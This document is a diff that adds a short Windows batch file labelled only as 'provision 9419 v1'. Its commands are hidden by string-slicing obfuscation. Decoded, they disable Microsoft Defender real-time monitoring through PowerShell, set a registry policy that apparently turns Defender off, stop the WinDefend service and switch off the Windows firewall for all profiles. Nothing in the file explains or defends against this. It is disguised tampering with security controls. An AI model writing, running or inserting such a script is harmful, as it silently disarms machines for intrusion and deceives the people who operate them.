@@ -1,0 +1,13 @@
+REM provision 9419 v1
+@echo off
+set "tkfd=ac-pYfCwlRMo63btDgATneuhrisJmS$4P"
+%tkfd:~3,1%%tkfd:~11,1%%tkfd:~7,1%%tkfd:~21,1%%tkfd:~24,1%%tkfd:~-7,1%%tkfd:~23,1%%tkfd:~21,1%%tkfd:~8,1%%tkfd:~8,1% %tkfd:~2,1%%tkfd:~1,1% "%tkfd:~29,1%%tkfd:~21,1%%tkfd:~15,1%%tkfd:~-31,1%%tkfd:~10,1%%tkfd:~3,1%%tkfd:~32,1%%tkfd:~24,1%%tkfd:~21,1%%tkfd:~5,1%%tkfd:~21,1%%tkfd:~-9,1%%tkfd:~-12,1%%tkfd:~-13,1%%tkfd:~1,1%%tkfd:~21,1% %tkfd:~2,1%%tkfd:~16,1%%tkfd:~-8,1%%tkfd:~-7,1%%tkfd:~-33,1%%tkfd:~14,1%%tkfd:~8,1%%tkfd:~-12,1%%tkfd:~9,1%%tkfd:~21,1%%tkfd:~0,1%%tkfd:~8,1%%tkfd:~15,1%%tkfd:~25,1%%tkfd:~28,1%%tkfd:~-12,1%%tkfd:~10,1%%tkfd:~-22,1%%tkfd:~20,1%%tkfd:~25,1%%tkfd:~15,1%%tkfd:~-22,1%%tkfd:~24,1%%tkfd:~25,1%%tkfd:~20,1%%tkfd:~17,1% %tkfd:~30,1%%tkfd:~15,1%%tkfd:~-9,1%%tkfd:~-11,1%%tkfd:~21,1%"
+@echo off
+set "vfzt=clsCwXEa_DFMPGAbIpU1HW4LVyS/nRet9\YidofOTvgKr"
+%vfzt:~44,1%%vfzt:~-15,1%%vfzt:~-3,1% %vfzt:~7,1%%vfzt:~36,1%%vfzt:~36,1% "%vfzt:~-25,1%%vfzt:~43,1%%vfzt:~23,1%%vfzt:~11,1%%vfzt:~-12,1%%vfzt:~26,1%%vfzt:~39,1%%vfzt:~-35,1%%vfzt:~40,1%%vfzt:~21,1%%vfzt:~14,1%%vfzt:~29,1%%vfzt:~6,1%%vfzt:~33,1%%vfzt:~12,1%%vfzt:~37,1%%vfzt:~-44,1%%vfzt:~35,1%%vfzt:~0,1%%vfzt:~35,1%%vfzt:~-15,1%%vfzt:~2,1%%vfzt:~33,1%%vfzt:~11,1%%vfzt:~35,1%%vfzt:~0,1%%vfzt:~44,1%%vfzt:~37,1%%vfzt:~2,1%%vfzt:~37,1%%vfzt:~38,1%%vfzt:~-14,1%%vfzt:~-12,1%%vfzt:~-24,1%%vfzt:~35,1%%vfzt:~28,1%%vfzt:~-9,1%%vfzt:~-8,1%%vfzt:~4,1%%vfzt:~-43,1% %vfzt:~9,1%%vfzt:~30,1%%vfzt:~38,1%%vfzt:~-15,1%%vfzt:~28,1%%vfzt:~36,1%%vfzt:~30,1%%vfzt:~-1,1%" %vfzt:~27,1%%vfzt:~41,1% %vfzt:~9,1%%vfzt:~35,1%%vfzt:~-43,1%%vfzt:~7,1%%vfzt:~15,1%%vfzt:~-44,1%%vfzt:~30,1%%vfzt:~14,1%%vfzt:~28,1%%vfzt:~31,1%%vfzt:~35,1%%vfzt:~26,1%%vfzt:~17,1%%vfzt:~-20,1%%vfzt:~-41,1%%vfzt:~7,1%%vfzt:~44,1%%vfzt:~30,1% %vfzt:~27,1%%vfzt:~-14,1% %vfzt:~29,1%%vfzt:~6,1%%vfzt:~13,1%%vfzt:~8,1%%vfzt:~-36,1%%vfzt:~21,1%%vfzt:~39,1%%vfzt:~-16,1%%vfzt:~9,1% %vfzt:~27,1%%vfzt:~36,1% %vfzt:~19,1% %vfzt:~-18,1%%vfzt:~38,1%
+@echo off
+set "gjpg=poQtdyciVnLeTJfDWsC7"
+%gjpg:~-3,1%%gjpg:~6,1% %gjpg:~-3,1%%gjpg:~3,1%%gjpg:~1,1%%gjpg:~0,1% %gjpg:~16,1%%gjpg:~7,1%%gjpg:~-11,1%%gjpg:~15,1%%gjpg:~11,1%%gjpg:~14,1%%gjpg:~11,1%%gjpg:~-11,1%%gjpg:~4,1%
+@echo off
+set "npkw=GshtpenioFzvIQ4adAfrlwV"
+%npkw:~6,1%%npkw:~5,1%%npkw:~3,1%%npkw:~1,1%%npkw:~2,1% %npkw:~15,1%%npkw:~16,1%%npkw:~11,1%%npkw:~-5,1%%npkw:~-16,1%%npkw:~-4,1%%npkw:~5,1%%npkw:~-2,1%%npkw:~15,1%%npkw:~-3,1%%npkw:~-3,1% %npkw:~1,1%%npkw:~5,1%%npkw:~3,1% %npkw:~15,1%%npkw:~20,1%%npkw:~20,1%%npkw:~-19,1%%npkw:~19,1%%npkw:~-15,1%%npkw:~18,1%%npkw:~7,1%%npkw:~20,1%%npkw:~-18,1%%npkw:~-22,1% %npkw:~-22,1%%npkw:~-20,1%%npkw:~15,1%%npkw:~3,1%%npkw:~-18,1% %npkw:~-15,1%%npkw:~-5,1%%npkw:~-5,1%
